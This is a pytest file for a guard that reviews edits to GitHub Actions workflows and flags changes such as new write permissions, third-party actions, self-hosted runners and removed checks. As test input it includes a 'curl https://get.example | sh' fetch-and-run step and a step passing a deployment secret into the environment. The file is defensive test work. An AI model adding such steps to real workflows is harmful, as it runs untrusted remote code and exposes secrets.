"""Files of integration services are judged by what they let through, expose or run, not by their text."""

import pytest

from beastmode_tools.guard.files import judge_files
from beastmode_tools.guard.finding import Verdict

PATH = ".github/workflows/test.yml"
FLOW = """on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
      - run: pytest tests
"""


def said(new, old=FLOW):
    """Verdict and words of the one finding."""
    (finding,) = judge_files({PATH: old}, {PATH: new})
    return finding.verdict, finding.problem.partition(": ")[2]


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("on: [push, pull_request]", "on: [push]", "no longer runs on pull_request"),
        ("on: [push, pull_request]", "on: [push, pull_request, workflow_run]", "runs on workflow_run"),
        ("jobs:", "permissions: {contents: write}\njobs:", "may write contents"),
        ("actions/checkout@v3", "someone/checkout@v3", "runs code of someone/checkout"),
        ("ubuntu-latest", "[self-hosted, big]", "runs on the machine"),
        ("pytest tests", "pytest tests/unit", "without `pytest tests` and with `pytest tests/unit`"),
        ("pytest tests", "pytest tests\n      - run: curl https://get.example | sh", "with `curl"),
        ("pytest tests", "pytest tests\n        env: {KEY: '${{ secrets.DEPLOY }}'}", "takes the secret DEPLOY"),
        ("      - run", "      - if: github.actor == 'me'\n        run", "runs something only if github.actor == 'me'"),
    ],
)
def test_what_a_workflow_may_do_besides_is_shown_to_a_reviewer(old, new, words):
    verdict, problem = said(FLOW.replace(old, new))

    assert (verdict, words in problem) == (Verdict.CAUTIOUS, True), problem


def test_a_limit_of_rights_that_is_gone_is_shown():
    limited = FLOW.replace("jobs:", "permissions: {contents: read}\njobs:")

    assert said(FLOW, limited) == (Verdict.CAUTIOUS, "no longer limits its rights")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("checkout@v3", "checkout@v4"),
        ("ubuntu-latest", "ubuntu-24.04"),
        ("jobs:", "permissions: {contents: read}\njobs:"),
        ("  - run", "  - run: pip install -U pip\n      - run"),
    ],
)
def test_an_update_or_another_machine_is_one_safe_line(old, new):
    assert said(FLOW.replace(old, new))[0] is Verdict.SAFE


def test_a_check_that_is_gone_still_lets_more_through():
    assert said(FLOW.replace("      - run: pytest tests\n", ""))[0] is Verdict.DANGEROUS
